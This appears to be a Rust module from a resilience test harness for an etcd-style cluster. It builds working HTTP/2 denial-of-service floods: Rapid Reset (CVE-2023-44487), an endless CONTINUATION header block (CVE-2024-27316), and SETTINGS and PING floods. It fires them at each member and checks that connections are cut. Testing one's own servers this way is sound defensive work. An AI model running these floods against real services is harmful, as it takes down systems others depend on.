//! Frames that cost their sender less than whoever reads them.

use std::io;
use std::time::Duration;

use prost::Message as _;
use quorate_proto::etcdserverpb::PutRequest;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::timeout;

use super::Stage;
use super::line::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Flooded, HEADERS, PING, PREFACE, RST_STREAM,
    SETTINGS, connect, fields, flood, frame, message,
};

/// Streams that are begun and reset at once (CVE-2023-44487), half of them with a whole request.
pub(super) async fn rapid_reset(stage: &Stage) -> io::Result<String> {
    const STREAMS: u32 = 5000;
    let put = PutRequest { key: "reset".into(), value: "x".into(), ..PutRequest::default() };
    let (fields, put) = (fields("/etcdserverpb.KV/Put"), message(&put.encode_to_vec()));
    let mut bytes = PREFACE.to_vec();
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        frame(&mut bytes, HEADERS, END_HEADERS, stream, &fields);
        if number % 2 == 0 {
            frame(&mut bytes, DATA, END_STREAM, stream, &put);
        }
        // CANCEL.
        frame(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    }
    let rounds = 20 * stage.scale;
    let ended = on_all(stage, 4, rounds, bytes.into()).await?;
    let streams = rounds * 4 * u64::from(STREAMS) * stage.cluster.len() as u64;
    Ok(format!("up to {streams} streams, {ended} connections were ended for it"))
}

/// A block of headers that goes on for ever (CVE-2024-27316).
pub(super) async fn continuations(stage: &Stage) -> io::Result<String> {
    let mut bytes = PREFACE.to_vec();
    let mut field = b"\0\x01x".to_vec();
    // 127 and 3 more: a value of 130 bytes.
    field.extend_from_slice(&[0x7f, 0x03]);
    field.extend_from_slice(&[b'x'; 130]);
    let block: Vec<u8> = field.iter().copied().cycle().take(field.len() * 120).collect();
    frame(&mut bytes, HEADERS, 0, 1, &fields("/etcdserverpb.KV/Put"));
    while bytes.len() < 64 << 20 {
        frame(&mut bytes, CONTINUATION, 0, 1, &block);
    }
    let connections = 4 * stage.scale * stage.cluster.len() as u64;
    let ended = on_all(stage, 4, stage.scale, bytes.into()).await?;
    if ended < connections {
        return Err(io::Error::other("64 MiB of headers were read"));
    }
    Ok(format!("all {ended} connections were ended for it"))
}

/// Settings and pings without end, whose answers nobody reads.
pub(super) async fn settings_and_pings(stage: &Stage) -> io::Result<String> {
    let (mut settings, mut pings) = (PREFACE.to_vec(), PREFACE.to_vec());
    while settings.len() < 8 << 20 {
        // The window of streams, up and down.
        frame(&mut settings, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
        frame(&mut settings, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
        frame(&mut pings, PING, 0, 0, b"whoisit?");
    }
    let mut floods = JoinSet::new();
    for port in stage.ports() {
        for bytes in [settings.clone(), pings.clone()] {
            let bytes: bytes::Bytes = bytes.into();
            for _ in 0..2 * stage.scale {
                let bytes = bytes.clone();
                floods.spawn(async move {
                    let mut stream = connect(port).await?;
                    // Who writes without reading has to stop at some point.
                    let _ = timeout(Duration::from_secs(2), stream.write_all(&bytes)).await;
                    // And now all is read.
                    let _ =
                        timeout(Duration::from_secs(3), flood(&mut stream, &bytes[24 + 9..])).await;
                    io::Result::Ok(())
                });
            }
        }
    }
    let mut count = 0;
    while let Some(joined) = floods.join_next().await {
        joined.map_err(io::Error::other)??;
        count += 1;
    }
    Ok(format!("{count} connections"))
}

/// Sends the same on so many connections to each member at once, again and again. How many a member has ended before all
/// was sent.
async fn on_all(
    stage: &Stage,
    at_once: usize,
    rounds: u64,
    bytes: bytes::Bytes,
) -> io::Result<u64> {
    let mut floods = JoinSet::new();
    for port in stage.ports() {
        for _ in 0..at_once {
            let bytes = bytes.clone();
            floods.spawn(async move {
                let mut ended = 0;
                for _ in 0..rounds {
                    // One for whom there is no room is one that was ended.
                    let Ok(mut stream) = connect(port).await else {
                        ended += 1;
                        continue;
                    };
                    ended += u64::from(flood(&mut stream, &bytes).await? == Flooded::Refused);
                }
                io::Result::Ok(ended)
            });
        }
    }
    let mut ended = 0;
    while let Some(joined) = floods.join_next().await {
        ended += joined.map_err(io::Error::other)??;
    }
    Ok(ended)
}
